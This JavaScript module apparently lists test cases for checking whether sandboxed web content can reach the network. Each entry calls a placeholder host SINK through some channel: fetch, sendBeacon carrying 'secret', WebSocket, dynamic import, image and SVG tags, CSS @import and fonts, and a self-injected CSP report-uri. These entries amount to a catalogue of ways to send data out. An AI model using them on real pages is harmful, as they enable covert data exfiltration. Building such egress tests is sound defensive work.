// 1-3: everything a page may ask for by script, by markup and by style.
const js = (id, name, code) => ({ id: `01.${id}`, name, js: `try { ${code} } catch (e) { void e; } ran();` });
const markup = (id, name, body) => ({ id: `02.${id}`, name, body });
const style = (id, name, css, body = "") => ({ id: `03.${id}`, name, head: `<style>${css}</style>`, body });

export default [
  js("fetch", "fetch", `fetch("http://SINK/x").catch(() => {});`),
  js("fetch.no-cors", "fetch without CORS over TLS", `fetch("https://SINK/x", { mode: "no-cors" }).catch(() => {});`),
  js("fetch.address", "fetch of an address with an odd port", `fetch("http://SINKIP:8081/x", { mode: "no-cors" }).catch(() => {});`),
  js("fetch.ipv6", "fetch of an IPv6 address", `fetch("http://[SINKIP6]:8081/x", { mode: "no-cors" }).catch(() => {});`),
  js("fetch.keepalive", "fetch that outlives the page", `fetch("http://SINK/x", { keepalive: true, mode: "no-cors" }).catch(() => {});`),
  js("xhr", "XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", "http://SINK/x"); x.send();`),
  js("beacon", "sendBeacon", `navigator.sendBeacon("http://SINK/x", "secret");`),
  js("eventsource", "EventSource", `new EventSource("http://SINK/x");`),
  js("websocket", "WebSocket", `new WebSocket("ws://SINK/x");`),
  js("websocket.tls", "WebSocket over TLS, to an address", `new WebSocket("wss://SINKIP:9443/x");`),
  js("webtransport", "WebTransport", `new WebTransport("https://SINK:4433/x").ready.catch(() => {});`),
  js("image-object", "new Image", `new Image().src = "http://SINK/x.png";`),
  js("import", "dynamic import", `import("http://SINK/x.js").catch(() => {});`),
  js("font-face-api", "FontFace", `new FontFace("F", "url(http://SINK/x.woff2)").load().catch(() => {});`),
  js("reporting", "a policy of its own that reports elsewhere", `
    const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "img-src 'none'; report-uri http://SINK/r"; document.head.append(m);
    fetch("http://SINK/via-report").catch(() => {}); new Image().src = "/none.png";`),

  markup("img", "img", `<img src="http://SINK/x.png">`),
  markup("srcset", "img srcset", `<img srcset="http://SINK/x.png 1x, http://SINK/y.png 2x">`),
  markup("picture", "picture source", `<picture><source srcset="http://SINK/x.webp"><img></picture>`),
  markup("video", "video and its poster", `<video src="http://SINK/x.mp4" poster="http://SINK/p.png" preload="auto"></video>`),
  markup("object", "object", `<object data="http://SINK/x"></object>`),
  markup("embed", "embed", `<embed src="http://SINK/x">`),
  markup("script", "script", `<script src="http://SINK/x.js"></script>`),
  markup("svg-image", "image in SVG", `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://SINK/x.png" width="9" height="9"/></svg>`),
  markup("svg-use", "use in SVG", `<svg><use href="http://SINK/x.svg#a"/></svg><svg><filter id="f"><feImage href="http://SINK/f.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`),
  markup("input-image", "input of type image", `<input type="image" src="http://SINK/x.png">`),
  markup("body-background", "background of a table", `<table background="http://SINK/x.png"><tr><td background="http://SINK/y.png">x</td></tr></table>`),
  { id: "02.favicon", name: "icon of the page", head: `<link rel="icon" href="http://SINK/x.ico">`, top: true, alone: true },
  { id: "02.manifest", name: "application manifest", head: `<link rel="manifest" href="http://SINK/x.webmanifest">`, top: true, alone: true },

  style("url", "url() of a background", `body { background: url(http://SINK/x.png) }`),
  style("import", "@import", `@import url(http://SINK/x.css);`),
  style("font-face", "@font-face", `@font-face { font-family: F; src: url(http://SINK/x.woff2) } body { font-family: F }`, "text"),
  style("image-set", "image-set()", `body { background-image: image-set("http://SINK/x.png" 1x) }`),
  style("list-style", "list-style, content and mask", `li { list-style-image: url(http://SINK/x.png) } p::before { content: url(http://SINK/y.png) }`, "<ul><li>x</li></ul><p>x</p>"),
  { id: "03.stylesheet", name: "stylesheet link", head: `<link rel="stylesheet" href="http://SINK/x.css">` },
  { id: "03.own-file-import", name: "@import in a file of the package", head: `<link rel="stylesheet" href="own.css">`, files: { "own.css": "@import url(http://SINK/x.css); body { background: url(http://SINK/y.png) }" } },
];
